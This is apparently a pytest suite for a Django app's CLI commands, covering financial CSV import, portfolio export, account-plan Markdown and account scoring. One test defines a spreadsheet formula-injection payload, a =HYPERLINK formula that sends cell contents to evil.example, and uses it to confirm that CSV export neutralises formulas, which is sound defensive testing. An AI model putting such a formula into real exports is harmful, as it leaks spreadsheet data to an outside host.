"""``relmap portfolio``, ``plan``, ``import-financials`` and ``score-account``."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from relmap.accounts.models import FinancialPeriod
from relmap.accounts.portfolio_services import criteria_install_defaults
from relmap.accounts.services import account_create
from relmap.core.csvfiles import spreadsheet_safe
from relmap.planning.services import plan_get_or_create, plan_item_create

pytestmark = pytest.mark.django_db

HEADER = "account,period_start,period_end,revenue,gross_margin,cost_to_serve\n"


@pytest.fixture
def financials(tmp_path: Path) -> Path:
    path = tmp_path / "financials.csv"
    path.write_text(
        HEADER
        + "Northwind Health,2025-10-01,2025-12-31,100000,30000,5000\n"
        + "Northwind Health,2026-01-01,2026-03-31,110000,33000,5000\n",
        encoding="utf-8",
    )
    return path


def test_import_financials_prints_a_summary_and_is_idempotent(
    account: Any, run: Callable[..., Any], financials: Path
) -> None:
    first = run("import_financials", str(financials), "--user", "olivia")
    assert "2 created" in first.stdout
    second = run("import_financials", str(financials), "--user", "olivia")
    assert "Nothing changed" in second.stdout
    assert FinancialPeriod.objects.count() == 2


def test_import_financials_lists_errors_on_stderr_and_writes_nothing(
    account: Any, run: Callable[..., Any], tmp_path: Path
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + "Northwind Health,2026-01-01,2025-03-31,100,300,5\n", "utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError, match="2 problems found; nothing was imported"):
        call_command("import_financials", str(path), "--user", "olivia", stderr=err)
    assert "bad.csv line 2: the period ends (2025-03-31) before it starts" in err.getvalue()
    assert "more than revenue" in err.getvalue()
    assert FinancialPeriod.objects.count() == 0


def test_import_financials_into_one_account(
    account: Any, run: Callable[..., Any], tmp_path: Path
) -> None:
    path = tmp_path / "q.csv"
    path.write_text("period_start,period_end,revenue,gross_margin\n2026-01-01,2026-03-31,9,3\n")
    result = run("import_financials", str(path), "--account", "Northwind Health", "--user", "mateo")
    assert "1 created" in result.stdout


def test_import_financials_reports_a_missing_file(account: Any, run: Callable[..., Any]) -> None:
    with pytest.raises(CommandError, match="1 problem found"):
        run("import_financials", "/nonexistent/file.csv", "--user", "olivia")


def test_portfolio_lists_visible_accounts_as_text_and_csv(
    account: Any,
    other_account: Any,
    run: Callable[..., Any],
    financials: Path,
    tmp_path: Path,
) -> None:
    run("import_financials", str(financials), "--user", "olivia")
    text = run("portfolio", "--user", "olivia").stdout
    assert "Northwind Health" in text
    assert "Globex Rail" not in text
    assert "1 account." in text
    out = tmp_path / "portfolio.csv"
    result = run("portfolio", "--format", "csv", "--out", str(out), "--user", "olivia")
    assert "Wrote 1 accounts" in result.stdout
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["name"] for r in rows] == ["Northwind Health"]
    assert float(rows[0]["annual_revenue"]) > 0
    assert rows[0]["team_size"] == "2"
    assert (rows[0]["map_last_reviewed"], rows[0]["map_stale"]) == ("", "yes")  # never


def test_portfolio_says_when_each_map_was_reviewed(
    owner: Any, account: Any, run: Callable[..., Any]
) -> None:
    from django.utils import timezone

    from relmap.monitoring.history import review_create

    assert "never!" in run("portfolio", "--user", "olivia").stdout
    review_create(actor=owner, account=account)
    text = run("portfolio", "--user", "olivia").stdout
    assert f"{timezone.localdate()}" in text.splitlines()[2]
    assert "never!" not in text
    assert "! map past its review cadence" in text
    (row,) = csv.DictReader(
        io.StringIO(run("portfolio", "--format", "csv", "--user", "olivia").stdout)
    )
    assert row["map_last_reviewed"] == timezone.localdate().isoformat()
    assert row["map_stale"] == "no"


def test_portfolio_csv_goes_to_stdout(account: Any, run: Callable[..., Any]) -> None:
    out = run("portfolio", "--format", "csv", "--user", "mateo").stdout
    assert out.splitlines()[0].startswith("id,name,owner,tier")
    assert len(out.splitlines()) == 2


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'


@pytest.mark.parametrize("out_file", [False, True], ids=["stdout", "file"])
def test_portfolio_csv_does_not_let_a_spreadsheet_run_a_name_as_a_formula(
    owner: Any, run: Callable[..., Any], tmp_path: Path, out_file: bool
) -> None:
    account_create(actor=owner, name=HYPERLINK, owner=owner)
    account_create(actor=owner, name="@SUM(1+1)", owner=owner)
    account_create(actor=owner, name="-2+3", owner=owner)
    account_create(actor=owner, name="Plain Ltd", owner=owner)
    if out_file:
        out = tmp_path / "portfolio.csv"
        run("portfolio", "--format", "csv", "--out", str(out), "--user", "olivia")
        text = out.read_text(encoding="utf-8")
    else:
        text = run("portfolio", "--format", "csv", "--user", "olivia").stdout
    names = [r["name"] for r in csv.DictReader(io.StringIO(text))]
    # Quoted with an apostrophe, as the web export does; other names untouched.
    assert sorted(names) == sorted([f"'{HYPERLINK}", "'@SUM(1+1)", "'-2+3", "Plain Ltd"])
    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())


def test_the_cli_and_web_exports_share_one_formula_guard() -> None:
    from relmap.accounts import views
    from relmap.accounts.management.commands import portfolio

    assert (
        vars(portfolio)["spreadsheet_safe"] is vars(views)["spreadsheet_safe"] is spreadsheet_safe
    )
    for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Acme = Foods") == "Acme = Foods"
    assert spreadsheet_safe("") == ""


def test_portfolio_findings_say_which_effort_signals_are_checked(
    account: Any, run: Callable[..., Any]
) -> None:
    text = run("portfolio", "--findings", "--user", "olivia").stdout
    assert "Effort signals checked now: team size" in text
    assert "Touchpoints are not yet recorded" in text


def test_plan_writes_markdown(
    owner: Any, account: Any, run: Callable[..., Any], tmp_path: Path
) -> None:
    plan = plan_get_or_create(actor=owner, account=account)
    need = plan_item_create(
        actor=owner, plan=plan, section_name="needs", kind="pain_point", text="Late deliveries"
    )
    point = plan_item_create(actor=owner, plan=plan, section_name="value_points", text="On time")
    from relmap.planning.services import value_point_link_needs

    value_point_link_needs(actor=owner, point=point, needs=[need])
    out = tmp_path / "plan.md"
    result = run("plan", "Northwind Health", "--out", str(out), "--user", "olivia")
    assert "Wrote revision 4" in result.stdout
    text = out.read_text(encoding="utf-8")
    assert text.startswith("# Account plan: Northwind Health")
    assert "Revision 4" in text
    assert "*Answers:* Late deliveries" in text
    for heading in ("## Objectives", "## Actions", "## SWOT", "## Whitespace"):
        assert heading in text


def test_plan_needs_a_plan_and_access(
    account: Any, other_account: Any, run: Callable[..., Any]
) -> None:
    with pytest.raises(CommandError, match="has no account plan yet"):
        run("plan", "Northwind Health", "--user", "olivia")
    with pytest.raises(CommandError, match="No account named"):
        run("plan", "Globex Rail", "--user", "olivia")


def test_score_account_places_the_account(
    owner: Any, account: Any, run: Callable[..., Any]
) -> None:
    criteria_install_defaults(actor=owner)
    names = ["Size", "Growth", "Profit potential", "Strategic fit", "Ease of doing business"]
    names += ["Share of wallet", "Relationship quality", "Solution fit", "Competitor position"]
    args = [arg for name in names for arg in ("--criterion", f"{name}=8:Looks good")]
    result = run("score_account", "Northwind Health", *args, "--user", "olivia")
    assert result.stdout.startswith("Northwind Health: Strategic")
    with pytest.raises(CommandError, match="No criterion named 'Sizes'"):
        run("score_account", "Northwind Health", "--criterion", "Sizes=3", "--user", "olivia")
    with pytest.raises(CommandError, match="score must be a number from 0"):
        run("score_account", "Northwind Health", "--criterion", "Size=12", "--user", "olivia")
